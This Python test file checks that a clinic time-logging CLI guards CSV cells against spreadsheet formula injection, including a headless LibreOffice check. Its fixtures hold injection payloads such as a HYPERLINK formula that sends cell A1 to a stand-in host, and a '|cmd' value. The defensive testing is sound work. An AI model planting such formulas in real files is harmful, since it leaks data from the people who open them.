"""A month log as a spreadsheet sees it (contract 1, the log section).

ccm writes a free-text cell that a spreadsheet could run as a formula with one more `'` in front,
and reads every cell beginning with `'` without that one `'`: what was typed is read back. The
written log is opened in LibreOffice Calc (headless, when it is installed) with the import
options that make it most eager: trim spaces, then evaluate formulas.
"""

import json
import shutil
import subprocess
import xml.etree.ElementTree as ET
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ccmcli.store.csv_safe import FORMULA_STARTS, log_text, typed_text

NOW = "2026-11-27T12:00:00-06:00"
HOSTILE = {
    "staff": "=1+1",
    "activity": "@SUM(1)",
    "note": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
}
MORE_NOTES = ["+1", "-2+3", "|cmd", "\uff1d1+1", "\uff0b1", "\uff5ccmd", "'quoted", "''twice",
              "plain words"]  # fmt: skip


@given(st.text(max_size=12))
def test_what_is_typed_is_read_back(text):
    assert typed_text(log_text(text)) == text


@given(st.text(alphabet=" \t\u00a0\u3000=+-@|'x1\uff1d\uff0b\uff0d\uff20\uff5c", max_size=8))
def test_no_written_cell_starts_a_formula_even_trimmed(text):
    written = log_text(text)
    assert not written.lstrip().startswith(FORMULA_STARTS) or written.startswith("'")


def test_leading_spaces_are_guarded():
    """LibreOffice trims a cell and then evaluates it: ` =1+1` is a formula there."""
    assert log_text(" =1+1") == "' =1+1" and typed_text("' =1+1") == " =1+1"
    assert log_text("\u3000=1") == "'\u3000=1"
    assert log_text("a =1") == "a =1"


def _hostile_log(cli, clinic, monkeypatch):
    monkeypatch.setenv("CCM_NOW", NOW)
    r = cli("-d", clinic, "log", "P0003", "5", "--staff", HOSTILE["staff"],
            "--activity", HOSTILE["activity"], "--note", HOSTILE["note"], "-q")  # fmt: skip
    assert r.exit_code == 0, r.stderr
    ids = [r.stdout.strip()]
    for note in MORE_NOTES:
        r = cli("-d", clinic, "log", "P0003", "1", "--note", note, "-q")
        assert r.exit_code == 0, r.stderr
        ids.append(r.stdout.strip())
    r = cli("-d", clinic, "void", ids[-1], "--reason", "-wrong patient", "-q")
    assert r.exit_code == 0, r.stderr
    return clinic / "logs" / "2026-11.csv"


def test_ccm_writes_guarded_cells_and_reads_back_what_was_typed(cli, clinic, monkeypatch):
    path = _hostile_log(cli, clinic, monkeypatch)
    text = path.read_text(encoding="utf-8")
    assert ",'=1+1,'@SUM(1),," in text and "\"'=HYPERLINK(" in text
    assert ",''quoted," in text and ",'-wrong patient," in text
    listed = json.loads(cli("-d", clinic, "entries", "--patient", "P0003", "-f", "json").stdout)
    rows = listed["entries"] if isinstance(listed, dict) else listed
    mine = [e for e in rows if e["logged_at"] and e["logged_at"].startswith("2026-11-27T12")]
    assert (mine[0]["staff"], mine[0]["activity"], mine[0]["note"]) == tuple(HOSTILE.values())
    notes = [e["note"] for e in mine[1:]]
    assert notes == [*MORE_NOTES, "-wrong patient"]


def test_a_hand_written_quote_is_read_without_it(cli, clinic):
    """Contract 1: every free-text cell beginning with `'` is read without that one `'`."""
    path = clinic / "logs" / "2026-10.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    cells = lines[1].rstrip("\r\n").split(",")
    cells[5], cells[9] = "'rn.x", "''twice"
    path.write_text("".join([lines[0], ",".join(cells) + "\n", *lines[2:]]), encoding="utf-8")
    out = json.loads(cli("-d", clinic, "entries", "--month", "2026-10", "-f", "json").stdout)
    rows = out["entries"] if isinstance(out, dict) else out
    first = next(e for e in rows if e["id"] == cells[0])
    assert (first["staff"], first["note"]) == ("rn.x", "'twice")


@pytest.mark.parametrize("end", ["\r\n", "\n"])
def test_an_append_keeps_the_file_s_line_ending(cli, clinic, monkeypatch, end):
    monkeypatch.setenv("CCM_NOW", NOW)
    path = clinic / "logs" / "2026-11.csv"
    body = path.read_bytes().replace(b"\r\n", b"\n")
    path.write_bytes(body.replace(b"\n", end.encode()))
    assert cli("-d", clinic, "log", "P0003", "5", "--note", 'a, "quoted" note').exit_code == 0
    assert cli("-d", clinic, "log", "P0001", "6").exit_code == 0
    raw = path.read_bytes()
    assert raw.endswith(end.encode())
    assert raw.count(b"\n") == raw.count(end.encode())
    assert cli("-d", clinic, "validate").exit_code == 0


def _calc_cells(csv_path, outdir) -> list[list[tuple[str, str | None]]]:
    """Each row of the CSV as LibreOffice Calc imports it: (text shown, formula or None), with
    spaces trimmed and formulas evaluated (CSV filter options 11 and 13)."""
    options = "CSV:44,34,76,1,,1033,false,true,true,false,true,-1,true"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{outdir}/profile", "--headless",
                    f"--infilter={options}", "--convert-to", "fods", "--outdir", str(outdir),
                    str(csv_path)], check=True, capture_output=True, timeout=180)  # fmt: skip
    t = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    p = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
    root = ET.parse(outdir / (csv_path.stem + ".fods")).getroot()
    rows = []
    for row in root.iter(f"{t}table-row"):
        cells = []
        for c in row.iter(f"{t}table-cell"):
            repeat = int(c.get(f"{t}number-columns-repeated", "1"))
            text = "\n".join("".join(x.itertext()) for x in c.iter(f"{p}p"))
            cells += [(text, c.get(f"{t}formula"))] * min(repeat, 20)
        rows.append(cells)
    return rows


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_evaluates_no_cell_of_a_written_log(cli, clinic, monkeypatch, tmp_path):
    path = _hostile_log(cli, clinic, monkeypatch)
    # and one row whose note begins with spaces (the command line trims what it is given)
    from ccmcli.models.months import Month
    from ccmcli.store.datadir import DataDir
    from ccmcli.store.logappend import append_entry
    from ccmcli.store.timelog import Entry

    spaced = Entry("", "P0003", date(2026, 11, 20), 3, "clinical_staff", " =1+1", "", "", "",
                   " =2+2", "", "", 0, "")  # fmt: skip
    from ccmcli.loader import load

    practice, month = load(DataDir(clinic), patient_ids=["P0003"]), Month(2026, 11)
    append_entry(DataDir(clinic), month, "America/Chicago", lambda log: (spaced, []),
                 lambda: practice.read_month(month, again=True))  # fmt: skip
    copy = tmp_path / "opened.csv"
    shutil.copyfile(path, copy)
    rows = _calc_cells(copy, tmp_path)
    assert len(rows) > 10
    formulas = [(n, text) for n, row in enumerate(rows, 1) for text, f in row if f]
    assert formulas == []
    typed = {(e["staff"], e["activity"], e["note"]) for e in _entries(cli, clinic)}
    for row in rows[1:]:
        staff, activity, note = row[5][0], row[6][0], row[9][0]
        # Calc shows the guard: the cell is text, what was typed with the `'` in front
        shown = tuple(x[1:] if x.startswith("'") else x for x in (staff, activity, note))
        assert shown in typed, row
    assert (" =1+1", "", " =2+2") in typed


def _entries(cli, clinic) -> list[dict]:
    out = json.loads(cli("-d", clinic, "entries", "--month", "2026-11", "-f", "json").stdout)
    return out["entries"] if isinstance(out, dict) else out
